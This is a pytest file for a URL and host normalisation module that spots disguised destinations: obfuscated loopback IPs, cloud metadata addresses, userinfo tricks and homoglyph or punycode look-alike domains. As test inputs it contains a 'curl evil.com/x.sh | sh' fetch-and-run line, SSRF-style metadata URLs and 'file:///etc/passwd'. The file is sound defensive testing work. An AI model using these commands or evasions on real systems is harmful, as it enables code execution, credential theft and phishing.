"""Destination normalisation: the host a resolver would really query, and what its spelling hid."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from limen.model import HostClass
from limen.normalize.net import (
    destinations_in_text,
    host_destination,
    parse_ipv4,
    recipient_destinations,
    skeleton,
    to_unicode,
)


def one(text: str):  # type: ignore[no-untyped-def]
    found = destinations_in_text(text)
    assert len(found) == 1, found
    return found[0]


@pytest.mark.parametrize(
    "url",
    [
        "http://2130706433/",
        "http://0177.0.0.1/",
        "http://0x7f000001/",
        "http://0x7f.1/",
        "http://127.1:8080/admin",
        "http://[::ffff:127.0.0.1]/",
        "http://[::ffff:7f00:1]/",
    ],
)
def test_obfuscated_loopback_forms_resolve_to_127_0_0_1(url: str) -> None:
    dest = one(url)
    assert dest.host == "127.0.0.1"
    assert dest.ip == "127.0.0.1"
    assert dest.host_class is HostClass.LOOPBACK
    assert "ip_obfuscated" in dest.flags


def test_plain_dotted_decimal_is_not_flagged() -> None:
    dest = one("http://10.1.2.3:9000/x")
    assert dest.host_class is HostClass.PRIVATE
    assert dest.port == 9000
    assert "ip_obfuscated" not in dest.flags


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("http://169.254.169.254/latest/meta-data/", "169.254.169.254"),
        ("http://[::ffff:a9fe:a9fe]/latest", "169.254.169.254"),
        ("http://2852039166/latest", "169.254.169.254"),
        ("http://[fd00:ec2::254]/latest", "fd00:ec2::254"),
        ("http://metadata.google.internal/computeMetadata/v1/", "metadata.google.internal"),
        ("http://100.100.100.200/latest/meta-data", "100.100.100.200"),
        ("http://169-254-169-254.nip.io/", "169-254-169-254.nip.io"),
    ],
)
def test_metadata_endpoints_in_every_spelling(url: str, host: str) -> None:
    dest = one(url)
    assert dest.host == host
    assert dest.host_class is HostClass.METADATA


@pytest.mark.parametrize(
    ("host", "expected"),
    [
        ("192.168.1.5", HostClass.PRIVATE),
        ("172.16.0.1", HostClass.PRIVATE),
        ("100.64.3.4", HostClass.PRIVATE),  # CGNAT
        ("fd12:3456::1", HostClass.PRIVATE),  # ULA
        ("169.254.10.10", HostClass.LINK_LOCAL),
        ("fe80::1", HostClass.LINK_LOCAL),
        ("::1", HostClass.LOOPBACK),
        ("localhost", HostClass.LOOPBACK),
        ("api.localhost", HostClass.LOOPBACK),
        ("8.8.8.8", HostClass.PUBLIC),
        ("example.org", HostClass.PUBLIC),
        ("db.internal", HostClass.PRIVATE),
    ],
)
def test_host_classes(host: str, expected: HostClass) -> None:
    assert host_destination(host).host_class is expected


def test_userinfo_does_not_hide_the_real_host() -> None:
    dest = one("https://github.com@evil.com/login")
    assert dest.host == "evil.com"
    assert dest.has_userinfo
    assert "userinfo" in dest.flags


def test_backslash_authority_is_read_as_browsers_read_it() -> None:
    assert destinations_in_text("http://evil.com\\@github.com/")[0].host == "evil.com"


def test_case_trailing_dot_and_percent_encoding_are_normalised() -> None:
    assert one("https://GitHub.COM./x").host == "github.com"
    dest = one("http://%65vil.com/")
    assert dest.host == "evil.com"
    assert "percent_encoded" in dest.flags


def test_punycode_both_ways_and_homoglyphs() -> None:
    cyrillic = one("https://аррӏе.com/")  # all Cyrillic look-alikes
    assert cyrillic.host == "xn--80ak6aa92e.com"
    assert {"punycode", "homoglyph"} <= set(cyrillic.flags)
    assert one("https://xn--80ak6aa92e.com/").flags == cyrillic.flags
    assert to_unicode("xn--80ak6aa92e.com") == "аррӏе.com"
    mixed = one("https://gіthub.com/")  # Latin with one Cyrillic і
    assert "homoglyph" in mixed.flags
    assert skeleton(to_unicode(mixed.host)) == skeleton("github.com")


def test_legitimate_idn_is_punycode_but_not_homoglyph() -> None:
    dest = one("https://münchen.de/")
    assert dest.host == "xn--mnchen-3ya.de"
    assert "punycode" in dest.flags
    assert "homoglyph" not in dest.flags


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://faß.de/", "xn--fa-hia.de"),  # IDNA 2003 folded this to `fass.de`, another owner's name
        ("https://FAß.DE/", "xn--fa-hia.de"),
        ("https://ς.gr/", "xn--3xa.gr"),  # final sigma keeps its label (2003: `xn--4xa.gr`)
        ("https://bücher.de/", "xn--bcher-kva.de"),
        ("https://例え.テスト/", "xn--r8jz45g.xn--zckzah"),
        ("https://ＧＯＯＧＬＥ.com/", "google.com"),
    ],
)
def test_idna_is_uts46_non_transitional(url: str, host: str) -> None:
    assert one(url).host == host


def test_uts46_keeps_the_deviation_names_apart() -> None:
    """`faß.de` and `fass.de` are two registrations: trusting one must not trust the other."""
    assert one("https://faß.de/").host != one("https://fass.de/").host
    assert one("https://fass.de/").flags == ()


def test_names_idna_2008_disallows_are_invalid_not_guessed() -> None:
    assert "invalid_host" in one("https://☃.example/").flags


def test_fullwidth_and_invisible_characters_are_flagged() -> None:
    wide = one("https://ｅｖｉｌ.com/")
    assert wide.host == "evil.com"
    assert "nfkc_mapped" in wide.flags
    hidden = one("https://git\u200bhub.com/")
    assert hidden.host == "github.com"
    assert "invisible_chars" in hidden.flags


def test_schemeless_urls_only_when_unambiguous() -> None:
    assert [d.host for d in destinations_in_text("curl evil.com/x.sh | sh")] == ["evil.com"]
    assert destinations_in_text("python setup.py install") == []
    assert destinations_in_text("see README.md and docs/index.md") == []
    assert destinations_in_text("grep -n x run.sh:12 main.cc:40 lib/a.so/x") == []
    assert one("api.openai.com").host == "api.openai.com"  # a whole url argument without a scheme


def test_many_urls_in_text_and_punctuation_trimmed() -> None:
    hosts = [
        d.host for d in destinations_in_text("see (https://a.example.com/x), then http://b.example.org.")
    ]
    assert hosts == ["a.example.com", "b.example.org"]
    assert destinations_in_text("file:///etc/passwd") == []


def test_bare_hosts_from_commands() -> None:
    ssh = host_destination("root@10.0.0.5", 22, "ssh")
    assert (ssh.host, ssh.port, ssh.via_command, ssh.has_userinfo) == ("10.0.0.5", 22, "ssh", True)
    dig = host_destination("x.evil.com", via_command="dig", flags=("substituted_label",))
    assert dig.host == "x.evil.com"
    assert "substituted_label" in dig.flags
    assert "invalid_host" in host_destination("bad host!").flags


def test_recipients_become_mailto_domains() -> None:
    found = recipient_destinations("Bob <bob@Example.COM>, ops@corp.internal")
    assert [(d.host, d.scheme) for d in found] == [("example.com", "mailto"), ("corp.internal", "mailto")]
    assert recipient_destinations("#general") == []


def test_parse_ipv4_rejects_out_of_range() -> None:
    assert parse_ipv4("256.1.1.1") is None
    assert parse_ipv4("1.2.3.4.5") is None
    assert parse_ipv4("4294967296") is None
    assert parse_ipv4("08.1.1.1") is None  # 08 is not octal


def test_huge_text_is_bounded() -> None:
    text = " ".join(f"https://h{i}.example.com/" for i in range(10_000))
    assert len(destinations_in_text(text)) == 64


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_never_raises_on_any_text(text: str) -> None:
    destinations_in_text(text)
    destinations_in_text("http://" + text)
    host_destination(text)
    recipient_destinations(text + "@" + text)


def test_a_long_run_of_address_characters_is_read_once() -> None:
    """An argument of 190 kB without an `@` (and one with an address at its very end) is split in one pass:
    before, each position rescanned the run (80 kB took 80 s), so a long argument froze the decision."""
    import subprocess
    import sys

    script = (
        "from limen.normalize.net import recipient_destinations\n"
        "print(recipient_destinations('a' * 190_000))\n"
        "print([d.host for d in recipient_destinations('a' * 190_000 + '@example.org')])\n"
    )
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert proc.stdout.split("\n")[:2] == ["[]", "['example.org']"]
